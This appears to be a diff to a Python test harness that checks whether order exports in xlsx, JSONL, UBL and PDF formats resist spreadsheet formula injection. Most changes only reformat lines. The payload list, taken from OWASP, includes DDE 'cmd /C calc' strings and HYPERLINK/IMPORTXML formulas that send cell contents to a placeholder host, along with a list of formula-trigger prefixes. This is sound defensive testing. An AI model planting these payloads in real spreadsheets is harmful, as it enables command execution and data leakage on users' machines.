@@ -32,10 +32,30 @@ from tocsin.settings import Settings
 
 PAYLOADS = 520
 # Source: OWASP, CSV Injection (= + - @, tab, carriage return, and their full-width forms); `'` hides a formula too.
-_BEGINS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", " =", "\u3000＝", "\u00a0=", "'=", '"=', ";=", "==", '="')
+_BEGINS = (
+    "=",
+    "+",
+    "-",
+    "@",
+    "＝",
+    "＋",
+    "－",
+    "＠",
+    "\t=",
+    "\r=",
+    "\n=",
+    " =",
+    "\u3000＝",
+    "\u00a0=",
+    "'=",
+    '"=',
+    ";=",
+    "==",
+    '="',
+)
 _BODIES = (
     "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://e.invalid?x="&A1,"x")', "2+3+cmd|' /C calc'!D2", "SUM(1+1)*cmd|' /C calc'!A0",
-    'IMPORTXML(CONCAT("http://e.invalid/",A1),"//a")', "DDE(\"cmd\";\"/C calc\";\"x\")", 'WEBSERVICE("http://e.invalid")', "1e5", "A1", "1,2",
+    'IMPORTXML(CONCAT("http://e.invalid/",A1),"//a")', 'DDE("cmd";"/C calc";"x")', 'WEBSERVICE("http://e.invalid")', "1e5", "A1", "1,2",
     '1";=1+1;"', "1\r\n=1+1", "1\t=1+1", "8613800138000", "张三", "'x", "_x003D_1", "<f>1+1</f>", "]]>&lt;", "#set page()", "１＋１", "0.5", "-1", "", "$(x)", "{=1}",
 )  # fmt: skip
 _LIVE = re.compile(r"[\s\ufeff]*[=+\-@＝＋－＠]|[\t\r\n]")
@@ -54,7 +74,10 @@ def main(given: list[str]) -> dict[str, Any]:
     with open_ground() as ground:
         found = {engine: look(ground, engine, payloads=payloads) for engine in wanted.engine or list(ENGINES)}
     planted = planted_faults(payloads)
-    worst = {name: sum(one[name] for one in found.values()) for name in ("live_formulas", "round_trip_wrong", "missing")}
+    worst = {
+        name: sum(one[name] for one in found.values())
+        for name in ("live_formulas", "round_trip_wrong", "missing")
+    }
     seen = all(planted.values())
     return {
         "payloads": len(payloads), **worst, "planted_fault_found": seen, "planted": planted, "engines": found,
@@ -86,7 +109,9 @@ def look(ground: Ground, engine: str, *, payloads: list[str]) -> dict[str, Any]:
             found += one
     finally:
         desk.close()
-    return {name: found[name] for name in ("live_formulas", "round_trip_wrong", "missing", "cells")} | {"formats": formats}
+    return {name: found[name] for name in ("live_formulas", "round_trip_wrong", "missing", "cells")} | {
+        "formats": formats
+    }
 
 
 def check(name: str, content: Content, count: int) -> Found:
@@ -120,7 +145,13 @@ def planted_faults(payloads: Sequence[str]) -> dict[str, bool]:
 
 def _draft(text: str, number: int) -> Any:
     line = Line(
-        line_id=f"{text}1", title=text or "x", sku=text, spec=text, unit=text, quantity_micro=MICRO, unit_price_micro=MICRO
+        line_id=f"{text}1",
+        title=text or "x",
+        sku=text,
+        spec=text,
+        unit=text,
+        quantity_micro=MICRO,
+        unit_price_micro=MICRO,
     )
     to = Party(
         name=text, phone=text, province=text, city=text, district=text, address=text, postcode=text, buyer_note=text,
@@ -144,7 +175,9 @@ def _read_xlsx(data: bytes, rows: list[tuple[str, ...]], _: list[Order]) -> Iter
         for column, text, cell in zip(COLUMNS, row, cells, strict=True):
             value = cell.value
             if column in NUMBER_COLUMNS and isinstance(value, int | float):
-                right = f"{value:f}".rstrip("0").rstrip(".") == (text.rstrip("0").rstrip(".") if "." in text else text)
+                right = f"{value:f}".rstrip("0").rstrip(".") == (
+                    text.rstrip("0").rstrip(".") if "." in text else text
+                )
             else:
                 right = re.sub(r"_x005F_(x[0-9A-Fa-f]{4}_)", r"_\1", value or "") == text
             yield cell.data_type == "f", right
@@ -155,7 +188,10 @@ def _read_jsonl(data: bytes, _: list[tuple[str, ...]], orders: list[Order]) -> I
     for order, back, line in zip(orders, parsed, data.splitlines(), strict=True):
         known = json.loads(line)
         for name in ("external_id", "campaign", "merchant_note", "carrier", "waybill", "receiver", "lines"):
-            yield not isinstance(known.get(name, ""), str | list | dict), getattr(order, name) == getattr(back.draft, name)
+            yield (
+                not isinstance(known.get(name, ""), str | list | dict),
+                getattr(order, name) == getattr(back.draft, name),
+            )
 
 
 def _read_ubl(data: bytes, _: list[tuple[str, ...]], orders: list[Order]) -> Iterator[tuple[bool, bool]]:
@@ -172,7 +208,10 @@ def _read_ubl(data: bytes, _: list[tuple[str, ...]], orders: list[Order]) -> Ite
 
 
 def _read_pdf(data: bytes, _: list[tuple[str, ...]], orders: list[Order]) -> Iterator[tuple[bool, bool]]:
-    yield any(mark in data for mark in _ACTIVE_PDF), data.startswith(b"%PDF-") and len(data) > 50 * len(orders)
+    yield (
+        any(mark in data for mark in _ACTIVE_PDF),
+        data.startswith(b"%PDF-") and len(data) > 50 * len(orders),
+    )
 
 
 def _sheet(data: bytes) -> Iterable[Any]:
